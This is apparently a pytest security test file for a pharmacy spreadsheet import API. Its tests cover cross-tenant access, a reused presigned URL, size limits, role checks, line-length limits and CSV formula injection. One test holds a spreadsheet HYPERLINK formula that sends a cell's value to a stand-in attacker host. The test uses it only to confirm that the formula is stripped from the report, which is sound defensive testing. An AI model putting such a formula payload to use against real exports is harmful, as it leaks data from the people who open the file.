"""What an attacker tries with the spreadsheet upload: another pharmacy's import, a presigned URL
used again, a file over the limit, a formula in a cell meant to run in the report's reader, the
platform admin or an anonymous caller starting one."""

from __future__ import annotations

import json
from typing import Any

import pytest

from chalicelib.payloads.csv_rows import MAX_LINE_CHARS
from testkit.import_files import process_uploads, put_file
from testkit.patients import PATIENTS
from tests.conftest import World

HEADER = "nir;nom;prenom;date_naissance;sexe;type_test;dispositif;preleve_le;resultat"


def body_of(response: Any) -> Any:
    return json.loads(response.body) if response.body else None


def row(index: int, minute: int, first_name: str | None = None) -> str:
    p = PATIENTS[index % 4]
    day = p["birth_date"]
    name = first_name or p["first_name"]
    if ";" in name or '"' in name:
        name = '"' + name.replace('"', '""') + '"'
    cells = [p["nir"], p["last_name"], name, f"{day[8:10]}/{day[5:7]}/{day[0:4]}", p["sex"]]
    return ";".join([*cells, "antigen", "1232", f"29/11/2026 10:{minute:02d}", "negative"])


def file_of(*rows: str) -> bytes:
    return ("\r\n".join([HEADER, *rows]) + "\r\n").encode()


def started(world: World, user: str = "pharmacist-a") -> dict[str, Any]:
    answer = world.call("POST", "/v1/imports", user)
    assert answer.status_code == 201, answer.body
    ticket: dict[str, Any] = body_of(answer)
    return ticket


def audit_actions(world: World, admin: str) -> list[tuple[str, str]]:
    events = body_of(world.call("GET", "/v1/audit?limit=100", admin))["items"]
    return [(e["action"], e["outcome"]) for e in events]


def test_another_pharmacys_import_is_a_404_and_journaled(world: World) -> None:
    ticket = started(world)
    put_file(ticket["upload_url"], file_of(row(0, 1)))
    process_uploads()
    for path in (ticket["status"], ticket["status"] + "/report"):
        answer = world.call("GET", path, "pharmacist-b", Accept="text/csv")
        assert answer.status_code == 404
        assert ticket["id"] not in answer.body.decode()
    assert (
        world.call("GET", ticket["status"] + "/report", "pharmacist-a", Accept="text/csv").status_code == 200
    )
    assert ("import_status", "denied") in audit_actions(world, "admin-b")
    assert ("import_report", "denied") in audit_actions(world, "admin-b")
    assert {("import_start", "success"), ("import_report", "success")} <= set(audit_actions(world, "admin-a"))


def test_a_presigned_url_used_again_imports_nothing_more(world: World) -> None:
    ticket = started(world)
    assert put_file(ticket["upload_url"], file_of(row(0, 1), row(1, 2))) == 200
    process_uploads()
    first = body_of(world.call("GET", ticket["status"], "pharmacist-a"))
    # The URL leaked (a proxy log, a shared screen): someone PUTs another file through it.
    put_file(ticket["upload_url"], file_of(*(row(i, 10 + i) for i in range(3))))
    process_uploads()
    again = body_of(world.call("GET", ticket["status"], "pharmacist-a"))
    assert again == first and first["created"] == 2
    assert ("import_process", "denied") in audit_actions(world, "admin-a")


def test_a_file_over_the_limit_is_rejected_and_nothing_created(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    from chalicelib import bootstrap
    from chalicelib.config import get_settings

    monkeypatch.setenv("IMPORT_MAX_BYTES", "1000")
    get_settings.cache_clear()
    bootstrap.reset()
    ticket = started(world)
    assert ticket["max_bytes"] == 1000
    put_file(ticket["upload_url"], file_of(*(row(i, i) for i in range(20))))
    process_uploads()
    status = body_of(world.call("GET", ticket["status"], "pharmacist-a"))
    assert (status["state"], status["created"]) == ("rejected", 0)
    assert status["errors"] == [
        {"field": "body", "code": "upload_too_large", "message": "is larger than 1000 bytes"}
    ]
    assert (
        world.call("GET", ticket["status"] + "/report", "pharmacist-a", Accept="text/csv").status_code == 404
    )


def test_a_formula_in_a_cell_never_reaches_the_report(world: World) -> None:
    formula = '=HYPERLINK("https://evil.example/?"&A1;"Ouvrir")'
    ticket = started(world)
    put_file(ticket["upload_url"], file_of(row(0, 1, first_name=formula), row(1, 2)))
    process_uploads()
    report = world.call("GET", ticket["status"] + "/report", "pharmacist-a", Accept="text/csv")
    text = report.body.decode("utf-8-sig")
    assert text.splitlines()[1].startswith("2;first_name;")
    assert "HYPERLINK" not in text and "evil" not in text
    assert not [
        line for line in text.splitlines() if any(cell[:1] in "=+-@" for cell in line.split(";") if cell)
    ]


def test_the_platform_admin_and_an_anonymous_caller_cannot_start_an_import(world: World) -> None:
    assert world.call("POST", "/v1/imports", "operator").status_code == 403
    assert world.call("POST", "/v1/imports", None).status_code == 401
    assert (
        world.call("GET", "/v1/imports/00000000-0000-4000-8000-000000000000", "operator").status_code == 403
    )


def _sheet_refusal(world: World, raw: bytes) -> list[str]:
    headers = world.headers("pharmacist-a", **{"Content-Type": "text/csv"})
    answer = world.client.http.request("POST", "/v1/test-sheets", headers=headers, body=raw)
    assert answer.status_code == 400, answer.body
    return [error["code"] for error in body_of(answer)["errors"]]


@pytest.mark.parametrize(
    "raw",
    [
        file_of(row(0, 1, first_name="A" * (MAX_LINE_CHARS + 1))),  # a row's line, ended: no record
        (";".join(["x"] * MAX_LINE_CHARS) + "\r\n" + row(0, 1) + "\r\n").encode(),  # an error per cell
    ],
    ids=["row", "header"],
)
def test_a_line_longer_than_the_documented_limit_is_refused_as_a_whole_wherever_it_sits(
    world: World, raw: bytes
) -> None:
    assert _sheet_refusal(world, raw) == ["sheet_line_too_long"]
